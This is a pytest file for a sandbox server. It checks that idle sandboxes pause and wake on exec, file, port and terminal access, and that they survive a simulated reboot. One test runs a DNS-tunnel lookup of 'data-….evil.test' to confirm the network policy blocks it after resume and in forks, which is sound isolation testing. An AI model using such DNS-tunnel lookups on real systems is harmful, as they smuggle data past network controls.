"""Boxes that rest when nobody wants anything of them, and wake when somebody does."""

import concurrent.futures
import contextlib
import os
import signal
import subprocess

import living
import pytest
from boxkit import Box, wait_for
from sandkeep_server import Refused, binary
from test_cli import Terminal

IDLE = {"timeout_seconds": None, "idle_seconds": 1, "auto_resume": True}


def pause(box, **wish):
    return box.server.json("POST", box.path + "/pause", wish)


def resting(box):
    return box.info()["state"] == "paused"


def events(box, kind):
    found = box.server.json("GET", f"/v1/events?sandbox_id={box.id}&after=0&format=json")["events"]
    return [event for event in found if event["event"] == kind]


def wakes(box):
    return len([event for event in events(box, "state") if event["to"] == "resuming"])


def test_a_paused_sandbox_answers_whoever_asks_unless_it_was_made_not_to(server, make):
    """Exec, files and ports wake it without a word at its making; the command line says so."""
    box = make(timeout_seconds=None)
    pause(box)
    assert box.exec(["true"]).ok
    pause(box)
    box.write("/tmp/woken", b"yes")
    pause(box)
    ran = subprocess.run(
        [binary(), "exec", box.id, "--", "cat", "/tmp/woken"],
        env={**os.environ, **server.cli_env()}, capture_output=True, text=True, timeout=120,
    )
    assert (ran.returncode, ran.stdout) == (0, "yes"), ran
    assert ran.stderr == f"sandbox {box.id} was paused: this command wakes it\n", ran
    asleep = make(timeout_seconds=None, auto_resume=False)
    pause(asleep)
    with pytest.raises(Refused) as refused:
        asleep.exec(["true"])
    assert refused.value.status == 409 and "resume" in str(refused.value), refused.value
    assert asleep.info()["state"] == "paused"


def test_a_command_that_only_waits_keeps_its_box_awake(make):
    box = make(**IDLE)
    assert box.exec("sleep 14; echo done", http_timeout=60).out == "done\n"
    assert events(box, "paused") == [], "it was not paused while somebody waited"
    wait_for(lambda: resting(box), "then it rests", limit=60)


def test_work_keeps_a_box_awake_and_its_end_lets_it_rest(make):
    box = make(**IDLE)
    assert box.exec("nohup timeout 14 sh -c 'while :; do :; done' >/dev/null 2>&1 &").ok
    wait_for(lambda: resting(box), "it rests when the work is done", limit=90)
    first = events(box, "paused")[0]["at"]
    made = box.made["started_at"]
    assert first > made
    assert not box.exec("pgrep -f 'while :'").ok, "it worked to its end first"


def test_a_silent_terminal_rests_and_a_keystroke_wakes_it(server, make):
    """The same shell, on the same terminal, without the client noticing more than a moment."""
    box = make(isolation="gvisor", **IDLE)
    terminal = Terminal(server, "shell", box.id)
    terminal.type("word=kept; echo ready-$((1+1))\n")
    terminal.expect("ready-2")
    # Asked of the ledger: to tell what a box uses, its kernel is asked, which is work.
    wait_for(lambda: events(box, "paused"), "a terminal nobody types into holds nothing awake", limit=90)
    before = wakes(box)
    terminal.type("echo $word-$((40+2))\n")
    terminal.expect("kept-42")
    assert wakes(box) == before + 1
    terminal.type("exit 7\n")
    assert terminal.end() == 7


def test_a_shell_wakes_a_sleeping_box(server, make):
    box = make(timeout_seconds=None, auto_resume=True)
    pause(box)
    terminal = Terminal(server, "shell", box.id)
    terminal.type("echo awake-$((1+1)); exit\n")
    terminal.expect("awake-2")
    assert terminal.end() == 0


def test_every_kind_of_call_wakes_and_they_wake_once(server, make):
    box = make(isolation="gvisor", timeout_seconds=None, auto_resume=True)
    box.write("/home/user/note", b"kept")
    assert box.exec("cd /home/user && nohup python3 -m http.server 8000 >/dev/null 2>&1 &").ok
    wait_for(lambda: box.exec("curl -sf http://127.0.0.1:8000/note").ok, "it serves")
    assert pause(box)["pause"]["mode"] == "disk"

    to_port = box.port_headers(8000)

    def by_port():
        status, _, body = server.request("GET", "/note", headers={**to_port, "X-API-Key": ""})
        return status == 200 and body == b"kept"

    def by_agent():
        token = {"E2b-Sandbox-Id": box.id, "E2b-Sandbox-Port": "49983", "X-Access-Token": box.made["access_token"]}
        status, _, body = server.request("GET", "/files?path=/home/user/note", headers=token)
        return status == 200 and body == b"kept"

    calls = [by_port, by_agent, lambda: box.read("/home/user/note") == b"kept", lambda: box.exec("echo hi").out == "hi\n"]
    with concurrent.futures.ThreadPoolExecutor(12) as pool:
        done = list(pool.map(lambda call: call(), calls * 3))
    assert done == [True] * 12
    assert wakes(box) == 1


def test_a_box_paused_before_a_reboot_resumes_after_it(server, make):
    """A reboot as far as it can be had: every process of boxes and server dies, the pool is unmounted."""
    box = make(isolation="gvisor", timeout_seconds=None)
    frozen = make(timeout_seconds=None)
    assert box.root("nohup sh -c 'n=0; while :; do n=$((n+1)); echo $n > /run/n; sleep 0.1; done' >/dev/null 2>&1 &").ok
    wait_for(lambda: box.root("cat /run/n").out.strip() not in ("", "1"), "it counts")
    assert frozen.exec("echo kept > /home/user/note").ok
    assert pause(box)["pause"]["mode"] == "disk"
    mode = pause(frozen)["pause"]["mode"]
    server.kill_hard()
    for pid in living.processes(server):
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
            thaw(pid)
    wait_for(lambda: not living.processes(server), "no process of any box is left")
    pool = server.state / "pool"

    def unmounted():
        return subprocess.run(["umount", str(pool)], capture_output=True).returncode == 0

    wait_for(unmounted, "the pool is unmounted", limit=30)
    server.start()
    assert box.info()["state"] == "paused"
    server.json("POST", box.path + "/resume", {})
    first = int(box.root("cat /run/n").out)
    assert first > 1, "with its memory"
    wait_for(lambda: int(box.root("cat /run/n").out or 0) > first, "it counts on")
    rest = frozen.info()
    assert rest["state"] == "paused"
    if mode == "ram":
        assert rest["pause"]["mode"] == "filesystem" and "memory was lost" in rest["pause"]["why"], rest
    server.json("POST", frozen.path + "/resume", {})
    assert frozen.exec("cat /home/user/note").out == "kept\n"


def test_traffic_keeps_a_box_awake(moated, outside):
    """A download that costs next to no CPU is somebody's all the same."""
    allow = {"allow": [f"good.sandkeep.test:{outside.web.port}"]}
    with Box(moated, network=allow, **IDLE) as box:
        url = outside.url(path="/stream")
        assert box.exec(f"nohup timeout 16 curl -sN --limit-rate 50 {url} >/dev/null 2>&1 &").ok
        wait_for(lambda: not box.exec("pgrep curl").ok, "the download ends", limit=60)
        assert events(box, "paused") == []
        wait_for(lambda: resting(box), "then it rests", limit=60)


@pytest.mark.parametrize("level", ["gvisor", "container"])
def test_dns_tunnel_after_a_resume(moated, outside, level):
    """What a box was not allowed to ask before its pause it can not ask after it; nor can its forks."""
    allow = {"allow": [f"good.sandkeep.test:{outside.web.port}"]}
    with Box(moated, isolation=level, network=allow, timeout_seconds=600) as box:
        ask = "getent hosts data-{}.evil.test; curl -sS --max-time 30 {} | cat"

        def tries(one, word):
            ran = one.exec(ask.format(word, outside.url()))
            assert ran.out == "hello from outside\n", (word, ran)

        tries(box, "before")
        pause(box)
        moated.json("POST", box.path + "/resume", {})
        tries(box, "resumed")
        pause(box, memory=False)
        moated.json("POST", box.path + "/resume", {})
        tries(box, "cold")
        (fork,) = moated.json("POST", box.path + "/fork", {})["forks"]
        with Box.known(moated, fork["sandbox"]["id"]) as copy:
            tries(copy, "forked")
        assert not [name for name in outside.dns.asked if "evil" in name], outside.dns.asked
        assert "good.sandkeep.test" in outside.dns.asked, "the resolver was really asked"


def thaw(pid):
    """What is frozen does not die on older kernels' cgroups; a host that goes down does not ask."""
    for line in open(f"/proc/{pid}/cgroup"):
        _, controllers, path = line.strip().split(":", 2)
        if "freezer" in controllers.split(","):
            state = f"/sys/fs/cgroup/freezer{path}/freezer.state"
            with open(state, "w") as file:
                file.write("THAWED")
